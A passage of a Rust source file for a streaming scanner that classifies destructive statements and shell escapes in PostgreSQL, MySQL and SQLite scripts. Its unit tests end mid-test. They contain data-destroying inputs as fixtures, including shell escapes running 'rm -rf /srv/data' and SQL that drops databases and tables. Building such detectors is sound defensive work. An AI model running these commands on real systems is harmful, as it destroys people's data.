//! SQL scripts: which statements a client will send, and which of them destroy data.
//!
//! Two stages, as the design notes propose. A streaming scanner walks the bytes once,
//! tracking only what changes meaning — quotes, `E''` escapes, dollar quotes, nested
//! comments, psql `\` meta-commands, `COPY … FROM stdin` data, mysql/sqlite client commands —
//! and keeps the text of *candidate* statements only (those starting with DROP, TRUNCATE,
//! DELETE, UPDATE, ALTER, DO, …). Candidates are then tokenized with sqlparser's tokenizer
//! and classified. Memory is bounded whatever the input size; comments, literals,
//! dollar-quoted bodies and identifiers like `drop_reason` never trigger anything.

mod classify;

use crate::facts::{Statement, StatementKind};
use classify::*;

/// Bytes that can change the scanner's state in code (quotes, comment starts, dollar
/// quotes, statement ends, meta-commands, line starts).
static CODE_STOPS: [bool; 256] = {
    let mut t = [false; 256];
    let stops = b"'\"`-/$;\\#";
    let mut i = 0;
    while i < stops.len() {
        t[stops[i] as usize] = true;
        i += 1;
    }
    t
};

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

/// The client whose script syntax applies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    Postgres,
    MySql,
    Sqlite,
}

/// Longest candidate statement kept for the tokenizer.
const KEEP: usize = 1 << 20;
/// Statements whose first word makes them worth keeping.
const CANDIDATES: &[&str] = &[
    "DROP", "TRUNCATE", "DELETE", "UPDATE", "ALTER", "DO", "COPY", "RESET", "SOURCE", "WITH", "EXPLAIN", "MERGE",
    "CREATE", "PREPARE", "CALL", "ATTACH",
];
/// Statements that run something defined earlier in the same input (a function, procedure
/// or prepared statement): kept only once something is defined.
const USES: &[&str] = &["SELECT", "CALL", "EXECUTE", "PERFORM"];

/// Something a script asks the client to do besides sending SQL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Directive {
    /// Read and run another file (`\i`, `\ir`, `source`, `.read`); `relative`: relative to
    /// the including script (`\ir`).
    Include { path: String, relative: bool },
    /// Connect elsewhere (`\c db host`, `.open file`).
    Connect(Vec<String>),
}

/// What one client session has defined so far, carried from one input to the next
/// (`-f a.sql -f b.sql`, `\i`): psql variables, functions and prepared statements, and
/// temporary tables.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Session {
    /// psql variables (`-v name=value`, `\set name value`), interpolated as `:name`,
    /// `:'name'`, `:"name"`.
    vars: Vec<(Vec<u8>, Vec<u8>)>,
    /// Functions, procedures and prepared statements whose bodies destroy or cannot be
    /// seen: name (upper case) → what calling them does.
    defs: Vec<(String, Classified)>,
    /// Temporary tables created so far (upper case): dropping them destroys nothing kept.
    temp_tables: Vec<String>,
}

impl Session {
    /// A session with psql variables set on the command line.
    pub fn with_vars(vars: &[(String, String)]) -> Session {
        Session {
            vars: vars.iter().map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec())).collect(),
            ..Session::default()
        }
    }

    fn var(&self, name: &[u8]) -> Option<Vec<u8>> {
        self.vars.iter().rev().find(|(k, _)| k == name).map(|(_, v)| v.clone())
    }
}

/// What a script holds.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Script {
    /// Destructive statements (anything classified other than `other`).
    pub statements: Vec<Statement>,
    pub directives: Vec<Directive>,
    pub unknown: Vec<String>,
    /// Statements seen in all.
    pub count: u64,
    /// What the session has defined by the end of the script.
    pub session: Session,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Code,
    /// After `-`: a `--` comment may start.
    Dash,
    /// After `/`: a `/*` comment may start.
    Slash,
    LineComment,
    Block {
        depth: u32,
    },
    /// In a block comment after `*` (may close) or `/` (may nest).
    BlockStar {
        depth: u32,
    },
    BlockSlash {
        depth: u32,
    },
    Quote {
        quote: u8,
        escapes: bool,
    },
    /// After a closing quote: a doubled quote continues the string.
    QuoteEnd {
        quote: u8,
        escapes: bool,
    },
    QuoteEscape {
        quote: u8,
    },
    /// After `$` in code: a dollar-quote tag may follow.
    DollarTag,
    Dollar,
    /// Matching the closing tag; `usize` bytes of `$tag$` matched so far.
    DollarClose(usize),
    /// A client command to the end of the line.
    Meta,
    /// `COPY … FROM stdin` data, at the start of a line.
    CopyLineStart,
    CopyLine,
    /// MySQL: after `--`; a comment only if whitespace follows.
    DashDash,
    /// MySQL: after `/*`; `!` makes it an executable comment.
    BlockOpen,
    /// The version digits of `/*!50000`.
    ExecVersion,
    /// A `*` inside an executable comment: `/` closes it.
    ExecStar,
    /// After `:` in psql code with variables set: `:name`, `:'name'`, `:"name"` may follow.
    Colon,
    /// Reading `:name` (the name so far in `tag`).
    ColonName,
    /// Reading `:'name'` / `:"name"` (the name so far in `tag`).
    ColonQuoted {
        quote: u8,
    },
}

/// The streaming scanner.
pub struct Scanner {
    dialect: Dialect,
    state: State,
    /// Candidate statement text (or the current client command).
    text: Vec<u8>,
    /// Whether `text` is being kept for this statement.
    keep: bool,
    /// The statement's first word so far (upper case), while it is being read.
    first: Vec<u8>,
    first_done: bool,
    /// Any non-blank code seen in this statement.
    started: bool,
    /// At the start of a line (for `.read` and `source` commands).
    line_start: bool,
    tag: Vec<u8>,
    after_copy: bool,
    /// Whether the previous code byte was part of an identifier, and was a lone `E`.
    ident: bool,
    lone_e: bool,
    /// Feeding a variable's value: no interpolation inside it (psql does not recurse).
    expanding: bool,
    /// Inside a MySQL executable comment `/*! … */`.
    in_exec: bool,
    /// MySQL's statement delimiter after `DELIMITER x` (`None`: `;`), and the last code
    /// bytes seen, to find it.
    delimiter: Option<Vec<u8>>,
    recent: Vec<u8>,
    out: Script,
}

impl Scanner {
    pub fn new(dialect: Dialect) -> Scanner {
        Scanner::with_session(dialect, Session::default())
    }

    /// A scanner that continues `session` (what earlier inputs defined).
    pub fn with_session(dialect: Dialect, session: Session) -> Scanner {
        Scanner {
            dialect,
            state: State::Code,
            text: Vec::new(),
            keep: true,
            first: Vec::new(),
            first_done: false,
            started: false,
            line_start: true,
            tag: Vec::new(),
            after_copy: false,
            ident: false,
            lone_e: false,
            expanding: false,
            in_exec: false,
            delimiter: None,
            recent: Vec::new(),
            out: Script { session, ..Script::default() },
        }
    }

    /// Scan a whole text for what it destroys (the statements inside a definition).
    fn scan_classified(dialect: Dialect, text: &str) -> Classified {
        let script = Scanner::scan(dialect, text);
        Classified { statements: script.statements, unknown: script.unknown, copy_from_stdin: false }
    }

    /// Scan a whole text.
    pub fn scan(dialect: Dialect, text: &str) -> Script {
        let mut s = Scanner::new(dialect);
        s.feed(text.as_bytes());
        s.finish()
    }

    fn push(&mut self, b: u8) {
        if self.keep && self.text.len() < KEEP {
            self.text.push(b);
        }
    }

    fn push_slice(&mut self, bytes: &[u8]) {
        if self.keep {
            let room = KEEP.saturating_sub(self.text.len());
            self.text.extend_from_slice(&bytes[..bytes.len().min(room)]);
        }
    }

    /// Feed the next chunk of input.
    pub fn feed(&mut self, chunk: &[u8]) {
        let mut i = 0;
        while i < chunk.len() {
            // Fast paths: skip runs that cannot change state.
            match self.state {
                State::Quote { quote, escapes } => {
                    let rest = &chunk[i..];
                    let hit = if escapes { memchr::memchr2(quote, b'\\', rest) } else { memchr::memchr(quote, rest) };
                    let n = hit.unwrap_or(rest.len());
                    self.push_slice(&rest[..n]);
                    i += n;
                    if hit.is_none() {
                        continue;
                    }
                }
                State::LineComment | State::CopyLine => {
                    let rest = &chunk[i..];
                    let n = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
                    i += n;
                    if n == rest.len() {
                        continue;
                    }
                }
                State::Dollar => {
                    let rest = &chunk[i..];
                    let hit = memchr::memchr(b'$', rest);
                    let n = hit.unwrap_or(rest.len());
                    self.push_slice(&rest[..n]);
                    i += n;
                    if hit.is_none() {
                        continue;
                    }
                }
                State::Block { .. } => {
                    let rest = &chunk[i..];
                    let n = memchr::memchr2(b'*', b'/', rest).unwrap_or(rest.len());
                    i += n;
                    if n == rest.len() {
                        continue;
                    }
                }
                State::Code
                    if !self.keep
                        && self.first_done
                        && self.out.session.vars.is_empty()
                        && !self.in_exec
                        && self.delimiter.is_none() =>
                {
                    // Outside any candidate statement only bytes that can change state
                    // matter; a table lookup skips the rest. `E'…'` is recognised from the
                    // two bytes before the quote, which the skip keeps.
                    let rest = &chunk[i..];
                    let n = rest.iter().position(|&b| CODE_STOPS[b as usize]).unwrap_or(rest.len());
                    if n > 0 {
                        let last = rest[n - 1];
                        let before = if n > 1 {
                            rest[n - 2]
                        } else if self.ident {
                            b'a'
                        } else {
                            b' '
                        };
                        self.lone_e = (last == b'E' || last == b'e') && !is_ident_byte(before);
                        self.ident = is_ident_byte(last);
                    }
                    i += n;
                    if n == rest.len() {
                        continue;
                    }
                    // The commonest stop: a plain string opens (no escapes to track).
                    let quote = chunk[i];
                    if (quote == b'\'' && !self.lone_e && self.dialect != Dialect::MySql)
                        || (quote == b'"' && self.dialect != Dialect::MySql)
                    {
                        self.state = State::Quote { quote, escapes: false };
                        self.ident = false;
                        i += 1;
                        continue;
                    }
                }
                State::QuoteEnd { quote, .. } if !self.keep && self.first_done && chunk[i] != quote => {
                    // A string closed; an ordinary byte follows: back to skipping code.
                    let b = chunk[i];
                    self.state = State::Code;
                    if !CODE_STOPS[b as usize] {
                        self.ident = is_ident_byte(b);
                        self.lone_e = false;
                        i += 1;
                        continue;
                    }
                    self.ident = false;
                    self.lone_e = false;
                }
                _ => {}
            }
            let b = chunk[i];
            i += 1;
            self.byte(b);
        }
    }

    fn byte(&mut self, b: u8) {
        match self.state {
            State::Code => self.code(b),
            State::Dash => {
                if b == b'-' && self.dialect == Dialect::MySql {
                    // MySQL: `--` starts a comment only when whitespace follows.
                    self.state = State::DashDash;
                } else if b == b'-' {
                    self.text.pop();
                    self.state = State::LineComment;
                } else {
                    self.state = State::Code;
                    self.code(b);
                }
            }
            State::DashDash => {
                if b.is_ascii_whitespace() {
                    self.text.pop();
                    self.state = State::LineComment;
                    if b == b'\n' {
                        self.state = State::Code;
                        self.code(b);
                    }
                } else {
                    self.state = State::Code;
                    self.push(b'-');
                    self.code(b);
                }
            }
            State::Slash => {
                if b == b'*' {
                    self.text.pop();
                    self.state =
                        if self.dialect == Dialect::MySql { State::BlockOpen } else { State::Block { depth: 1 } };
                } else {
                    self.state = State::Code;
                    self.code(b);
                }
            }
            State::BlockOpen => {
                if b == b'!' {
                    // `/*! … */`, `/*!50000 … */`: MySQL runs what is inside.
                    self.state = State::ExecVersion;
                } else {
                    self.state = State::Block { depth: 1 };
                    self.byte(b);
                }
            }
            State::ExecVersion => {
                if !b.is_ascii_digit() {
                    self.state = State::Code;
                    self.in_exec = true;
                    self.code(b);
                }
            }
            State::ExecStar => {
                self.state = State::Code;
                if b == b'/' {
                    self.in_exec = false;
                    self.push(b' ');
                } else {
                    self.push(b'*');
                    self.code(b);
                }
            }
            State::LineComment => {
                if b == b'\n' {
                    self.state = State::Code;
                    self.code(b);
                }
            }
            State::Block { depth } => match b {
                b'*' => self.state = State::BlockStar { depth },
                b'/' => self.state = State::BlockSlash { depth },
                _ => {}
            },
            State::BlockStar { depth } => match b {
                b'/' if depth <= 1 => {
                    self.state = State::Code;
                    self.push(b' ');
                }
                b'/' => self.state = State::Block { depth: depth - 1 },
                b'*' => {}
                _ => self.state = State::Block { depth },
            },
            State::BlockSlash { depth } => match b {
                // PostgreSQL nests block comments; MySQL and SQLite do not.
                b'*' if self.dialect == Dialect::Postgres => self.state = State::Block { depth: depth + 1 },
                b'/' => {}
                _ => self.state = State::Block { depth },
            },
            State::Quote { quote, escapes } => {
                self.push(b);
                if escapes && b == b'\\' {
                    self.state = State::QuoteEscape { quote };
                } else if b == quote {
                    self.state = State::QuoteEnd { quote, escapes };
                }
            }
            State::QuoteEscape { quote } => {
                self.push(b);
                self.state = State::Quote { quote, escapes: true };
            }
            State::QuoteEnd { quote, escapes } => {
                if b == quote {
                    self.push(b);
                    self.state = State::Quote { quote, escapes };
                } else {
                    self.state = State::Code;
                    self.ident = false;
                    self.code(b);
                }
            }
            State::DollarTag => {
                if b == b'$' {
                    self.push(b);
                    self.state = State::Dollar;
                } else if b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80 {
                    if self.tag.is_empty() && b.is_ascii_digit() {
                        // `$1`: a parameter, not a quote.
                        self.state = State::Code;
                        self.code(b);
                    } else {
                        self.tag.push(b);
                        self.push(b);
                    }
                } else {
                    self.state = State::Code;
                    self.tag.clear();
                    self.code(b);
                }
            }
            State::Dollar => {
                self.push(b);
                if b == b'$' {
                    self.state = State::DollarClose(0);
                }
            }
            State::DollarClose(matched) => {
                self.push(b);
                if matched == self.tag.len() {
                    if b == b'$' {
                        self.tag.clear();
                        self.state = State::Code;
                        self.ident = false;
                    } else {
                        self.state = if b == b'$' { State::DollarClose(0) } else { State::Dollar };
                    }
                } else if self.tag.get(matched) == Some(&b) {
                    self.state = State::DollarClose(matched + 1);
                } else {
                    self.state = if b == b'$' { State::DollarClose(0) } else { State::Dollar };
                }
            }
            State::Meta => {
                if b == b'\n' {
                    self.meta_done();
                } else if self.text.len() < 4096 {
                    self.text.push(b);
                }
            }
            State::CopyLineStart => {
                self.text.push(b);
                if b == b'\n' {
                    let line = std::mem::take(&mut self.text);
                    if line.strip_suffix(b"\n").map(|l| l.strip_suffix(b"\r").unwrap_or(l)) == Some(b"\\.") {
                        self.state = State::Code;
                        self.reset();
                    }
                } else if self.text.len() >= 3 || !b"\\.\r".starts_with(&self.text[..self.text.len().min(2)]) {
                    self.text.clear();
                    self.state = State::CopyLine;
                }
            }
            State::CopyLine => {
                if b == b'\n' {
                    self.state = State::CopyLineStart;
                }
            }
            State::Colon => match b {
                b'\'' | b'"' => {
                    self.tag.clear();
                    self.state = State::ColonQuoted { quote: b };
                }
                b if b.is_ascii_alphabetic() || b == b'_' || b >= 0x80 => {
                    self.tag.clear();
                    self.tag.push(b);
                    self.state = State::ColonName;
                }
                _ => {
                    self.state = State::Code;
                    self.code_at(b':', false);
                    self.byte(b);
                }
            },
            State::ColonName => {
                if is_ident_byte(b) && self.tag.len() < 64 {
                    self.tag.push(b);
                } else {
                    self.state = State::Code;
                    let name = std::mem::take(&mut self.tag);
                    self.interpolate(&name, None);
                    self.byte(b);
                }
            }
            State::ColonQuoted { quote } => {
                if b == quote || self.tag.len() >= 64 {
                    self.state = State::Code;
                    let name = std::mem::take(&mut self.tag);
                    self.interpolate(&name, Some(quote));
                } else {
                    self.tag.push(b);
                }
            }
        }
    }

    /// psql's `:name` (as is), `:'name'` (a string literal) or `:"name"` (an identifier):
    /// the variable's value goes through the scanner as if written there. An unset variable
    /// stays as written.
    fn interpolate(&mut self, name: &[u8], quote: Option<u8>) {
        let value = self.out.session.var(name);
        self.expanding = true;
        match (value, quote) {
            (Some(v), None) => v.iter().for_each(|&b| self.byte(b)),
            (Some(v), Some(q)) => {
                self.byte(q);
                for &b in &v {
                    if b == q {
                        self.byte(q);
                    }
                    self.byte(b);
                }
                self.byte(q);
            }
            (None, q) => {
                self.code_at(b':', false);
                q.into_iter().for_each(|q| self.byte(q));
                name.iter().for_each(|&b| self.byte(b));
                q.into_iter().for_each(|q| self.byte(q));
            }
        }
        self.expanding = false;
    }

    fn code(&mut self, b: u8) {
        self.code_at(b, true);
    }

    /// A byte of code; `interpolate`: a `:` may start a psql variable.
    fn code_at(&mut self, b: u8, interpolate: bool) {
        if interpolate
            && b == b':'
            && !self.expanding
            && self.dialect == Dialect::Postgres
            && !self.out.session.vars.is_empty()
        {
            self.state = State::Colon;
            return;
        }
        let was_line_start = self.line_start;
        self.line_start = b == b'\n';
        if let Some(delim) = &self.delimiter {
            self.recent.push(b);
            if self.recent.len() > delim.len() {
                self.recent.remove(0);
            }
            if self.recent == *delim {
                // The delimiter's earlier bytes were kept as text: take them back.
                let keep = self.text.len().saturating_sub(delim.len() - 1);
                self.text.truncate(keep);
                self.recent.clear();
                self.end_statement();
                return;
            }
        }
        match b {
            b';' if self.delimiter.is_none() => {
                self.end_statement();
                return;
            }
            b'*' if self.in_exec => {
                self.state = State::ExecStar;
                return;
            }
            b'\'' => {
                let escapes = self.lone_e || self.dialect == Dialect::MySql;
                self.state = State::Quote { quote: b'\'', escapes };
            }
            b'"' => self.state = State::Quote { quote: b'"', escapes: self.dialect == Dialect::MySql },
            b'`' if self.dialect != Dialect::Postgres => self.state = State::Quote { quote: b'`', escapes: false },
            b'-' => self.state = State::Dash,
            b'/' => self.state = State::Slash,
            b'#' if self.dialect == Dialect::MySql => {
                self.state = State::LineComment;
                return;
            }
            b'$' if self.dialect == Dialect::Postgres && !self.ident => {
                self.tag.clear();
                self.state = State::DollarTag;
            }
            b'\\' if self.dialect != Dialect::Sqlite => {
                // psql meta-command (anywhere outside quotes) or mysql `\.`-style command:
                // it ends the statement before it.
                self.end_statement();
                self.text.clear();
                self.state = State::Meta;
                return;
            }
            // sqlite3 dot-commands start at the left margin.
            b'.' if self.dialect == Dialect::Sqlite && !self.started && was_line_start => {
                self.text.clear();
                self.state = State::Meta;
                return;
            }
            _ => {}
        }
        let is_ident = b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80;
        if !self.first_done {
            if is_ident {
                self.first.push(b.to_ascii_uppercase());
            } else if !self.first.is_empty() {
                self.first_word_done();
            }
        }
        if is_ident || !b.is_ascii_whitespace() {
            self.started = true;
        }
        self.lone_e = (b == b'E' || b == b'e') && !self.ident;
        self.ident = is_ident;
        self.push(b);
        if !self.first_done && !self.first.is_empty() && self.first.len() > 16 {
            self.first_word_done();
        }
    }

    fn first_word_done(&mut self) {
        self.first_done = true;
        // Compared as bytes: this runs once per statement, millions of times in a dump.
        let word: &[u8] = &self.first;
        if self.dialect == Dialect::MySql && word == b"SOURCE" {
            // `source file` is a client command to the end of the line.
            self.text.clear();
            self.text.extend_from_slice(b"source ");
            self.state = State::Meta;
            return;
        }
        if self.dialect == Dialect::MySql && word == b"SYSTEM" {
            // `system CMD` (the client's `\!`) runs a shell command, to the end of the line.
            self.text.clear();
            self.text.extend_from_slice(b"system ");
            self.state = State::Meta;
            return;
        }
        if self.dialect == Dialect::MySql && word == b"DELIMITER" {
            self.text.clear();
            self.text.extend_from_slice(b"delimiter ");
            self.state = State::Meta;
            return;
        }
        self.keep = CANDIDATES.iter().any(|c| c.as_bytes() == word)
            || (!self.out.session.defs.is_empty() && USES.iter().any(|c| c.as_bytes() == word));
        if !self.keep {
            self.text.clear();
        }
    }

    fn reset(&mut self) {
        self.text.clear();
        self.keep = true;
        self.first.clear();
        self.first_done = false;
        self.started = false;
        self.ident = false;
        self.lone_e = false;
    }

    fn end_statement(&mut self) {
        if !self.first_done && !self.first.is_empty() {
            self.first_word_done();
            if self.state == State::Meta {
                return;
            }
        }
        if self.started {
            self.out.count += 1;
        }
        if self.keep && self.started && self.first_done {
            let text = String::from_utf8_lossy(&self.text).into_owned();
            let truncated = self.text.len() >= KEEP;
            self.statement(&text, truncated);
        }
        self.reset();
        self.state = State::Code;
        if std::mem::take(&mut self.after_copy) && self.dialect == Dialect::Postgres {
            self.state = State::CopyLineStart;
        }
    }

    /// One kept statement: classify it, remember what it defines, and add what it runs.
    fn statement(&mut self, text: &str, truncated: bool) {
        let first = self.first.clone();
        if first == b"CREATE" {
            // Only definitions matter among CREATE statements; a dump has thousands of
            // CREATE TABLE, which are not tokenized.
            let head = text.get(..text.len().min(200)).unwrap_or(text).to_ascii_uppercase();
            if !["FUNCTION", "PROCEDURE", "TEMP", "TEMPORARY"].iter().any(|w| head.contains(w)) {
                return;
            }
        }
        let Some(tokens) = tokens(self.dialect, text) else {
            if first != b"CREATE" && !USES.iter().any(|u| u.as_bytes() == first.as_slice()) {
                self.out.unknown.push(format!("a statement could not be read: {}", excerpt(text)));
            }
            return;
        };
        match first.as_slice() {
            b"CREATE" | b"PREPARE" => {
                if let Some((name, def)) = definition(self.dialect, &tokens) {
                    self.out.session.defs.retain(|(n, _)| *n != name);
                    if !def.statements.is_empty() || !def.unknown.is_empty() {
                        self.out.session.defs.push((name, def));
                    }
                } else if let Some(table) = temp_table(&tokens) {
                    self.out.session.temp_tables.push(table);
                }
                return;
            }
            b"SELECT" | b"CALL" | b"EXECUTE" | b"PERFORM" => {
                let used: Vec<Classified> = self.uses(&tokens);
                for c in used {
                    self.out.statements.extend(c.statements);
                    self.out.unknown.extend(c.unknown);
                }
                if first != b"CALL" {
                    return;
                }
            }
            _ => {}
        }
        let mut classified = classify(self.dialect, text, truncated);
        if first == b"DROP" && !self.out.session.temp_tables.is_empty() {
            // `DROP TABLE t` of a temporary table this input created: nothing kept is lost.
            let names = dropped_tables(&tokens);
            if !names.is_empty() && names.iter().all(|n| self.out.session.temp_tables.contains(n)) {
                classified.statements.clear();
            }
        }
        self.after_copy = classified.copy_from_stdin;
        self.out.statements.extend(classified.statements);
        self.out.unknown.extend(classified.unknown);
    }

    /// What a statement runs of the definitions made earlier: `SELECT wipe()`, `CALL p()`,
    /// `PERFORM f()`, `EXECUTE stmt`.
    fn uses(&self, tokens: &[Tok]) -> Vec<Classified> {
        let mut out = Vec::new();
        for (name, def) in &self.out.session.defs {
            let called = tokens.iter().enumerate().any(|(i, t)| {
                matches!(t, Tok::Word(w, _, _) if w == name)
                    && (matches!(tokens.get(i + 1), Some(Tok::Other(p)) if p == "(")
                        || matches!(tokens.get(i.wrapping_sub(1)), Some(Tok::Word(k, false, _)) if k == "EXECUTE" || k == "CALL"))
            });
            if called {
                out.push(Classified {
                    statements: def
                        .statements
                        .iter()
                        .map(|s| Statement {
                            text: excerpt(&format!("{} (run by {})", s.text, name.to_ascii_lowercase())),
                            ..s.clone()
                        })
                        .collect(),
                    unknown: def.unknown.clone(),
                    copy_from_stdin: false,
                });
            }
        }
        out
    }

    fn meta_done(&mut self) {
        let line = String::from_utf8_lossy(&std::mem::take(&mut self.text)).into_owned();
        self.reset();
        self.state = State::Code;
        self.line_start = true;
        self.meta(line.trim());
    }

    /// A client command: psql `\…`, mysql `source`/`\.`, sqlite `.…`.
    fn meta(&mut self, line: &str) {
        let words = shell_words::split(line).unwrap_or_else(|_| line.split_whitespace().map(String::from).collect());
        let Some(cmd) = words.first().map(String::as_str) else {
            return;
        };
        let arg = words.get(1).cloned().unwrap_or_default();
        match (self.dialect, cmd) {
            (Dialect::Postgres, "i" | "include") | (Dialect::MySql, "source" | ".") | (Dialect::Sqlite, "read") => {
                self.out.directives.push(Directive::Include { path: arg, relative: false })
            }
            (Dialect::Postgres, "ir" | "include_relative") => {
                self.out.directives.push(Directive::Include { path: arg, relative: true })
            }
            (Dialect::MySql, "delimiter" | "DELIMITER" | "Delimiter") => {
                self.delimiter = (!arg.is_empty() && arg != ";").then(|| arg.into_bytes());
                self.recent.clear();
            }
            (Dialect::Postgres, "set") if words.len() >= 2 => {
                let value: String = words[2..].concat();
                self.out.session.vars.push((arg.into_bytes(), value.into_bytes()));
            }
            (Dialect::Postgres, "unset") => self.out.session.vars.retain(|(k, _)| *k != arg.as_bytes()),
            (Dialect::Postgres, "gexec") => self
                .out
                .unknown
                .push("`\\gexec` runs the results of a query as SQL; what it runs cannot be known in advance".into()),
            (Dialect::Postgres | Dialect::MySql, "!")
            | (Dialect::MySql | Dialect::Sqlite, "system")
            | (Dialect::Sqlite, "shell") => self
                .out
                .unknown
                .push(format!("the script runs a shell command: {}", line.chars().take(120).collect::<String>())),
            (Dialect::Postgres, "c" | "connect") | (Dialect::Sqlite, "open") => {
                self.out.directives.push(Directive::Connect(words[1..].to_vec()))
            }
            (Dialect::Sqlite, "restore") => self.out.statements.push(Statement {
                kind: StatementKind::Restore,
                object: words.last().cloned(),
                text: excerpt(&format!(".{line}")),
            }),
            _ => {}
        }
    }

    /// End of input.
    pub fn finish(mut self) -> Script {
        match std::mem::replace(&mut self.state, State::Code) {
            State::Colon => self.code_at(b':', false),
            State::ColonName => {
                let name = std::mem::take(&mut self.tag);
                self.interpolate(&name, None);
            }
            State::ColonQuoted { quote } => {
                let name = std::mem::take(&mut self.tag);
                self.code_at(b':', false);
                self.byte(quote);
                name.iter().for_each(|&b| self.byte(b));
            }
            other => self.state = other,
        }
        match self.state {
            State::Quote { .. } | State::QuoteEscape { .. } => {
                self.out.unknown.push("the SQL ends inside an unterminated quoted string".into())
            }
            State::Dollar | State::DollarClose(_) => {
                self.out.unknown.push("the SQL ends inside an unterminated dollar-quoted string".into())
            }
            State::Block { .. } | State::BlockStar { .. } | State::BlockSlash { .. } => {}
            State::Meta => self.meta_done(),
            _ => {}
        }
        if matches!(
            self.state,
            State::Code | State::Dash | State::Slash | State::QuoteEnd { .. } | State::DollarTag | State::LineComment
        ) {
            self.end_statement();
        }
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(dialect: Dialect, text: &str) -> Vec<String> {
        Scanner::scan(dialect, text).statements.iter().map(|s| s.kind.to_string()).collect()
    }

    fn pg(text: &str) -> Vec<String> {
        kinds(Dialect::Postgres, text)
    }

    #[test]
    fn destructive_statements() {
        assert_eq!(pg("DROP TABLE users;"), ["drop"]);
        assert_eq!(pg("drop table if exists public.users cascade"), ["drop"]);
        assert_eq!(pg("DROP DATABASE shop"), ["drop_database"]);
        assert_eq!(pg("DROP SCHEMA public CASCADE; CREATE SCHEMA public;"), ["drop"]);
        assert_eq!(pg("TRUNCATE orders"), ["truncate"]);
        assert_eq!(pg("DELETE FROM users"), ["delete_all"]);
        assert_eq!(pg("DELETE FROM users WHERE 1=1"), ["delete_all"]);
        assert_eq!(pg("UPDATE users SET admin = true"), ["update_all"]);
        assert_eq!(pg("ALTER TABLE users DROP COLUMN email"), ["alter_drop"]);
        assert_eq!(pg("ALTER TABLE users DROP email"), ["alter_drop"]);
        assert_eq!(pg("DROP OWNED BY app"), ["drop"]);
        let ch = |t: &str| kinds(Dialect::Postgres, t);
        assert_eq!(ch("ALTER TABLE events DELETE WHERE 1"), ["delete_all"]);
        assert_eq!(ch("ALTER TABLE db.events ON CLUSTER main DELETE WHERE true"), ["delete_all"]);
        assert_eq!(ch("ALTER TABLE events UPDATE status = 0 WHERE 1 = 1"), ["update_all"]);
        assert!(ch("ALTER TABLE events DELETE WHERE ts < now() - INTERVAL 30 DAY").is_empty());
        assert!(
            ch("ALTER TABLE o ADD CONSTRAINT fk FOREIGN KEY (u) REFERENCES users(id) ON DELETE CASCADE").is_empty()
        );
        assert!(
            ch("ALTER TABLE o ADD FOREIGN KEY (u) REFERENCES users(id) ON UPDATE CASCADE ON DELETE SET NULL")
                .is_empty()
        );
        assert_eq!(ch("ALTER TABLE sales DROP PARTITION p2019"), ["alter_drop"]);
        assert_eq!(pg("WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone"), ["delete_all"]);
    }

    #[test]
    fn harmless_look_alikes() {
        for text in [
            "SELECT drop_reason FROM orders",
            "DELETE FROM users WHERE id = 3",
            "UPDATE users SET name = 'x' WHERE id = 1",
            "-- DROP TABLE users;\nSELECT 1",
            "/* DROP TABLE users; /* nested */ still comment */ SELECT 1",
            "SELECT 'DROP TABLE users; --'",
            "SELECT $$DROP TABLE users$$",
            "SELECT $fn$ DROP TABLE x; $fn$",
            "CREATE FUNCTION f() RETURNS void AS $$ BEGIN DROP TABLE x; END $$ LANGUAGE plpgsql",
            "INSERT INTO log(msg) VALUES ('truncate orders')",
            "ALTER TABLE users DROP CONSTRAINT users_pkey",
            "SELECT E'it\\'s; DROP TABLE x'",
            "DROP INDEX users_email_idx",
            "SELECT $1, $2 FROM t",
        ] {
            assert!(pg(text).iter().all(|k| k == "drop_other"), "{text}: {:?}", pg(text));
        }
    }

    #[test]
    fn do_blocks_and_meta_commands() {
        assert_eq!(pg("DO $$ BEGIN TRUNCATE audit; END $$;"), ["truncate"]);
        // The mysql client's shell escapes, like psql's `\!` and sqlite3's `.system`.
        for text in ["system rm -rf /srv/data\n", "SELECT 1;\n\\! rm -rf /srv/data\n"] {
            assert!(!Scanner::scan(Dialect::MySql, text).unknown.is_empty(), "{text}");
        }
        assert!(Scanner::scan(Dialect::MySql, "SELECT system_user();").unknown.is_empty());
        let s = Scanner::scan(Dialect::Postgres, "DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$;");
        assert!(!s.unknown.is_empty());
        let s = Scanner::scan(Dialect::Postgres, "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec\n");
        assert!(!s.unknown.is_empty());
        let s = Scanner::scan(Dialect::Postgres, "\\i drop.sql\n\\ir ./more.sql\nSELECT 1;");
        assert_eq!(
            s.directives,
            [
                Directive::Include { path: "drop.sql".into(), relative: false },
                Directive::Include { path: "./more.sql".into(), relative: true }
            ]
        );
        let s = Scanner::scan(Dialect::Postgres, "\\c prod-db\nDROP TABLE x;");
        assert_eq!(s.directives, [Directive::Connect(vec!["prod-db".into()])]);
        assert_eq!(s.statements.len(), 1);
    }

    #[test]
    fn copy_data_is_not_sql() {
        let dump = "COPY public.t (a) FROM stdin;\nDROP TABLE x;\n\\.\nSELECT 1;\n";
        assert!(pg(dump).is_empty(), "{:?}", pg(dump));
        assert_eq!(pg("COPY t FROM stdin;\n1\n\\.\nDROP TABLE t;"), ["drop"]);
    }

    #[test]
    fn unterminated_is_unknown() {
        assert!(!Scanner::scan(Dialect::Postgres, "SELECT 'oops; DROP TABLE x").unknown.is_empty());
        assert!(!Scanner::scan(Dialect::Postgres, "SELECT $$ never closed").unknown.is_empty());
    }

    #[test]
    fn chunk_boundaries_do_not_matter() {
        let text = "SELECT '--'; /* a */ DO $tag$ BEGIN DELETE FROM t; END $tag$; -- x\nDROP TABLE y; SELECT $$;$$;";
        let whole = Scanner::scan(Dialect::Postgres, text);
        for size in 1..8 {
            let mut s = Scanner::new(Dialect::Postgres);
            for chunk in text.as_bytes().chunks(size) {
                s.feed(chunk);
            }
